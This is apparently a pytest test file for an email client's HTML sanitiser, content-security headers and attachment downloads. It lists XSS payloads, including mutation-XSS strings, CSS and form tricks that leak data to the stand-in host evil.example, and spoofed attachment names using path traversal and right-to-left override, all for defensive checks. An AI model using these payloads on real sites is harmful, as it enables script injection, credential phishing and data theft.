"""What comes with a message: its HTML is shown without power, its attachments are downloads with harmless names."""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from email.message import EmailMessage
from typing import Any

import pytest
from django.test import Client as Browser
from tests.letters import OURS, THEIRS, bring, stored

from amends.mail.parsing.html import sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x)">x</div>',
    '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/x 1x">',
    '<img src="//evil.example/x">',
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    '<video poster="https://evil.example/x"></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<input type="image" src="https://evil.example/x">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<template><img src=x onerror=alert(1)></template>',
    '<a href="https://x.example" ping="https://evil.example">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    '<button formaction="javascript:alert(1)">x</button>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]  # fmt: skip
_LOADS = re.compile(
    r"<(script|style|iframe|object|embed|meta|base|form|input|button|link|svg|math|video|audio|template|noscript)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:text|url\s*\(|@import|expression\s*\(|image-set|position\s*:"
    r"|srcset|\sping=|background=|poster=|formaction|<!--",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_loses_all_that_runs_loads_or_covers(payload: str) -> None:
    clean = sanitise(f"<p>before</p>{payload}<p>after</p>", remote_images=False)
    attributes = re.sub(r'title="[^"]*"', "", clean)  # the address of an image that was not loaded is told in words
    assert not _LOADS.search(attributes), clean
    assert "evil.example" not in re.sub(r'href="https?://[^"]*"', "", attributes), clean
    assert "before" in clean


@pytest.fixture
def message(firm: Any, fresh: datetime) -> Any:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"], made["Message-ID"] = THEIRS, OURS, "Parts", "<parts@x>"
    made["Date"] = fresh - timedelta(days=1)
    made.set_content("Hello.")
    made.add_alternative("<p>Hello.</p>" + "".join(PAYLOADS), subtype="html")
    for name in ("../../evil.html", "a\u202efdp.exe", "CON", "x.svg", "naïve – plan.pdf"):
        made.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html", filename=name)
    bring(made.as_bytes(), now=fresh)
    return stored("parts@x")


def test_the_frame_of_a_letter_has_no_power(browser: Browser, message: Any) -> None:
    answer = browser.get(f"/messages/{message.public_id}/html")
    policy = answer["Content-Security-Policy"]
    for line in (
        "default-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'self'",
        "img-src data:;",
    ):
        assert line in policy
    sandbox = policy.partition("sandbox")[2]
    assert "allow-scripts" not in sandbox
    assert "allow-same-origin" not in sandbox
    assert "allow-forms" not in sandbox
    assert "allow-top-navigation" not in sandbox
    assert (answer["Referrer-Policy"], answer["X-Frame-Options"]) == ("no-referrer", "SAMEORIGIN")
    assert "no-store" in answer["Cache-Control"]
    body = answer.content.decode()
    assert "onerror" not in re.sub(r'title="[^"]*"', "", body)
    assert "<script" not in body
    assert "https:" in browser.get(f"/messages/{message.public_id}/html?images=1")["Content-Security-Policy"]


def test_the_frame_is_sandboxed_by_the_page_too(browser: Browser, message: Any) -> None:
    page = browser.get(f"/threads/{message.thread.public_id}/").content.decode()
    frames = re.findall(r"<iframe[^>]*>", page) + re.findall(r"data-frame[^>]*sandbox[^>]*", page)
    for frame in frames:
        assert 'sandbox="' in frame
        assert "allow-scripts" not in frame
        assert "allow-same-origin" not in frame


@pytest.mark.parametrize(
    ("index", "name"),
    [(2, "evil.html"), (3, "afdp.exe"), (4, "_CON"), (5, "x.svg"), (6, "naïve – plan.pdf")],
)
def test_an_attachment_is_a_download_with_a_harmless_name(
    browser: Browser, message: Any, index: int, name: str
) -> None:
    answer = browser.get(f"/messages/{message.public_id}/attachments/{index}")
    assert answer.status_code == 200
    disposition = answer["Content-Disposition"]
    assert disposition.startswith("attachment")
    from urllib.parse import unquote

    told = unquote(disposition.partition("filename*=utf-8''")[2]) or disposition.partition('filename="')[2].rstrip('"')
    assert told == name
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert b"<script>" in answer.content


def test_the_letter_itself_is_a_download(browser: Browser, message: Any) -> None:
    answer = browser.get(f"/messages/{message.public_id}/original")
    assert answer["Content-Disposition"] == f'attachment; filename="{message.public_id}.eml"'
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
